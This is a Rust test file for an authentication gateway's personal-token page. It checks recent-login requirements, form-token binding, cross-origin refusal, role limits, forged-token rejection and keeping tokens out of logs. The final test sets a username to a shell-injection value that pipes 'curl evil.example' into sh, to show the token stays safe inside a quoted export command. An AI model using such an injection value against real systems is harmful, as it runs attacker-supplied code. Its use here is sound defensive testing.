//! The page that asks the person, and the token that it shows.

#[cfg(target_family = "wasm")]
use wasm_bindgen_test::wasm_bindgen_test as test;

use crate::testing::browser::{Browser, FORM_POST, NAVIGATION, SCRIPT};
use crate::testing::logout::buffered;
use crate::testing::{
    AUTH_STRING, COOKIE_KEY, World, basic, header, reply_header, request, request_to,
};
use crate::tests::credentials::personal_tokens::{
    action, made, page, person, post, refused, text, used,
};
use crate::wire::http::query::only;
use serde_json::json;

#[test]
fn one_is_made_on_a_page_that_asks_and_proves_the_person() {
    let mut world = World::with(&buffered());
    let mut browser = person(&mut world, "/oauth2/token");
    let asked = browser.load(&mut world, "/oauth2/token").reply();
    assert_eq!(asked.status, 200);
    assert!(action(&asked).starts_with("/oauth2/token?form_token="));
    assert!(text(&asked).contains("<dd>alice</dd>") && text(&asked).contains("<dd>operator</dd>"));
    assert!(!text(&asked).contains("lt_"));
    // Whoever has opened it by script gets no hold of it.
    assert_eq!(reply_header(&asked, "cross-origin-opener-policy"), Some("same-origin"));
    let pair = made(&mut world);
    assert!(pair.starts_with("alice:lt_"), "{pair}");
    let headers = used(&mut world, &pair).forwarded();
    assert_eq!(header(&headers, "authorization"), Some(basic(AUTH_STRING).as_str()));
    assert_eq!(header(&headers, "x-auth-request-user"), Some("user:alice-1"));
    assert_eq!(header(&headers, "x-auth-request-groups"), Some("operator"));
    let token = pair.split_once(':').unwrap().1;
    for shown in [("authorization", format!("Bearer {token}")), ("x-api-key", token.to_owned())] {
        let headers = request("GET", "/api/flows/1", &[(shown.0, &shown.1)]);
        world.request(&headers).1.forwarded();
    }
    world.work();
    let log = world.log.join("\n");
    assert!(log.contains("method=personal_token") && log.contains("principal=\"user:alice-1\""));
    assert!(!log.contains(token), "logged: {log}");
}

#[test]
fn it_needs_a_login_of_a_moment_ago() {
    let mut world = World::with(&buffered());
    let mut browser = Browser::default();
    // A session of long ago at the provider.
    world.idp.claims["auth_time"] = json!(world.now.secs() - 1000);
    browser.log_in(&mut world, "/");
    let reply = browser.load(&mut world, "/oauth2/token").reply();
    let location = reply_header(&reply, "location").unwrap();
    let (_, query) = location.split_once('?').unwrap();
    assert_eq!(only(query, "max_age").unwrap().as_deref(), Some("300"));
    let reply = post(&mut world, &browser, "/oauth2/token").reply();
    let here = format!("{}/oauth2/token", crate::testing::PUBLIC);
    assert_eq!((reply.status, reply_header(&reply, "location")), (302, Some(here.as_str())));
    // A provider that takes no notice of max_age makes no circle.
    let callback = browser.start_login(&mut world, "/oauth2/token");
    let reply = browser.load(&mut world, &callback).reply();
    assert_eq!(reply.status, 502);
    assert!(world.log.join("").contains("auth_time"), "{:?}", world.log);
    // Nor one that does not say when.
    world.idp.exact_claim = Some(("auth_time", None));
    let callback = browser.start_login(&mut world, "/oauth2/token");
    assert_eq!(browser.load(&mut world, &callback).reply().status, 502);
    world.idp.exact_claim = None;
    world.idp.claims["auth_time"] = json!(world.now.secs());
    let callback = browser.start_login(&mut world, "/oauth2/token");
    assert_eq!(browser.load(&mut world, &callback).status(), 302);
    assert_eq!(browser.load(&mut world, "/oauth2/token").status(), 200);
}

/// Whoever has a copy of the cookie waits in vain for the person to authenticate elsewhere.
#[test]
fn a_refresh_makes_no_fresh_login_of_an_old_one() {
    let mut world = World::with(&buffered());
    let mut browser = person(&mut world, "/oauth2/token");
    world.pass(1000);
    world.idp.claims["auth_time"] = json!(world.now.secs());
    let before = browser.session().cloned();
    assert_eq!(browser.poll(&mut world), 200);
    assert_ne!(browser.session(), before.as_ref(), "it is refreshed");
    assert_eq!(browser.load(&mut world, "/oauth2/token").reply().status, 302);
    let reply = post(&mut world, &browser, "/oauth2/token").reply();
    assert_eq!(reply.status, 302, "{}", text(&reply));
}

/// A form somewhere among Prefect's own pages is of our origin, but nobody was asked.
#[test]
fn the_answer_must_be_to_the_page_that_asked_this_person() {
    let mut world = World::with(&buffered());
    let mut browser = person(&mut world, "/oauth2/token");
    let mut other = person(&mut world, "/oauth2/token");
    let of_other = action(&other.load(&mut world, "/oauth2/token").reply());
    let page = page(Some("8123"));
    let of_terminal = action(&browser.load(&mut world, &page).reply());
    let (_, asked) = of_terminal.split_once("&form_token=").unwrap();
    let own = action(&browser.load(&mut world, "/oauth2/token").reply());
    for address in [
        "/oauth2/token".to_owned(),
        page.clone(),
        of_other,
        "/oauth2/token?form_token=x".to_owned(),
        format!("/oauth2/token?form_token={asked}"),
        format!("{}&{}", page, own.split_once('?').unwrap().1),
        format!("{own}&form_token=x"),
    ] {
        let reply = world.request(&browser.headers("POST", &address, &FORM_POST)).1.reply();
        assert_eq!(reply.status, 302, "{address}");
        let location = reply_header(&reply, "location").unwrap();
        assert!(
            location.starts_with(&format!("{}/oauth2/token", crate::testing::PUBLIC)),
            "{location}"
        );
    }
    let made =
        |world: &mut World| world.request(&browser.headers("POST", &own, &FORM_POST)).1.reply();
    assert_eq!(made(&mut world).status, 200);
    world.pass(299);
    assert_eq!(made(&mut world).status, 200);
    world.pass(1);
    assert_eq!(made(&mut world).status, 302, "long ago");
}

/// Images, frames, scripts and pages elsewhere make none.
#[test]
fn only_the_person_s_own_hand_makes_one() {
    let mut world = World::with(&buffered());
    let browser = person(&mut world, "/oauth2/token");
    let elsewhere = [
        ("sec-fetch-site", "cross-site"),
        ("sec-fetch-mode", "navigate"),
        ("sec-fetch-dest", "document"),
        ("origin", "https://evil.example"),
    ];
    let sibling = [("origin", "https://other.example.com")];
    let null = [("origin", "null")];
    let image = [
        ("sec-fetch-site", "same-origin"),
        ("sec-fetch-mode", "no-cors"),
        ("sec-fetch-dest", "image"),
    ];
    for (method, extra) in [
        ("POST", elsewhere.as_slice()),
        ("POST", &sibling),
        ("POST", &null),
        ("GET", &image),
        ("GET", &SCRIPT),
    ] {
        let headers = browser.headers(method, "/oauth2/token", extra);
        let reply = world.request(&headers).1.reply();
        assert_eq!(reply.status, 403, "{method} {extra:?}");
        assert!(!text(&reply).contains("lt_"));
    }
    // A page load makes none, wherever it comes from; nor does a token make another.
    let headers = browser.headers("GET", "/oauth2/token", &NAVIGATION);
    assert!(!text(&world.request(&headers).1.reply()).contains("lt_"));
    let pair = made(&mut world);
    for method in ["GET", "POST"] {
        let mut lines = FORM_POST.to_vec();
        let line = basic(&pair);
        lines.push(("authorization", &line));
        let headers = request(method, "/oauth2/token", &lines);
        let reply = world.request(&headers).1.reply();
        assert!(!text(&reply).contains("lt_"), "{method}");
    }
}

#[test]
fn its_role_is_never_above_the_person_s_or_the_settings() {
    for (own, most, wanted) in [
        ("prefect-admin", "operator", Some("operator")),
        ("prefect-viewer", "operator", Some("viewer")),
        ("prefect-admin", "admin", Some("admin")),
        ("prefect-worker", "operator", None),
        ("nothing", "operator", None),
    ] {
        let mut settings = buffered();
        settings["machines"]["personal_tokens"] = json!({ "role": most });
        let mut world = World::with(&settings);
        world.idp.claims = json!({ "realm_access": { "roles": [own] } });
        let Some(wanted) = wanted else {
            let browser = person(&mut world, "/oauth2/token");
            assert_eq!(post(&mut world, &browser, "/oauth2/token").status(), 403, "{own}");
            continue;
        };
        let pair = made(&mut world);
        let headers = used(&mut world, &pair).forwarded();
        assert_eq!(header(&headers, "x-auth-request-groups"), Some(wanted), "{own} {most}");
    }
    // A token from before the settings became stricter.
    let mut settings = buffered();
    settings["machines"]["personal_tokens"] = json!({ "role": "admin" });
    let mut world = World::with(&settings);
    world.idp.claims = json!({ "realm_access": { "roles": ["prefect-admin"] } });
    let pair = made(&mut world);
    settings["machines"]["personal_tokens"] = json!({ "role": "viewer" });
    let mut stricter = World::with(&settings);
    let headers = used(&mut stricter, &pair).forwarded();
    assert_eq!(header(&headers, "x-auth-request-groups"), Some("viewer"));
    // An admin wonders why.
    let denied = request("DELETE", "/api/flows/1", &[("authorization", &basic(&pair))]);
    let denied = stricter.request(&denied).1.reply();
    assert_eq!(denied.status, 403);
    assert!(text(&denied).contains("Required role: admin. The role is that of your token"));
}

#[test]
fn forged_altered_and_foreign_ones_are_refused_alike() {
    let mut world = World::with(&buffered());
    let pair = made(&mut world);
    let token = pair.split_once(':').unwrap().1;
    for at in 3..token.len() {
        let mut bytes = token.as_bytes().to_vec();
        bytes[at] = if bytes[at] == b'A' { b'B' } else { b'A' };
        let altered = String::from_utf8(bytes).unwrap();
        refused(&mut world, &format!("alice:{altered}"));
    }
    for bad in ["lt_", "lt_x", token.strip_suffix(|_: char| true).unwrap(), &format!("{token}A")] {
        refused(&mut world, &format!("alice:{bad}"));
    }
    // Sealed by the same key for something else.
    let browser = person(&mut world, "/");
    let session = browser.session().unwrap();
    refused(&mut world, &format!("alice:lt_{session}"));
    // Another gate's key, another public URL.
    let mut settings = buffered();
    settings["public_url"] = json!("https://other.example.com");
    let mut other = World::with(&settings);
    let headers =
        request_to("other.example.com", "GET", "/api/flows/1", &[("authorization", &basic(&pair))]);
    assert_eq!(other.request(&headers).1.status(), 401);
    assert_eq!(COOKIE_KEY.len(), 43);
}

#[test]
fn a_name_with_a_quote_is_no_shell_command() {
    let mut world = World::with(&buffered());
    world.idp.claims["preferred_username"] = json!("o';curl${IFS}evil.example|sh;'");
    let pair = made(&mut world);
    assert!(
        !pair.contains("&#39;") && !pair.contains('\''),
        "export PREFECT_API_AUTH_STRING='{pair}'"
    );
}
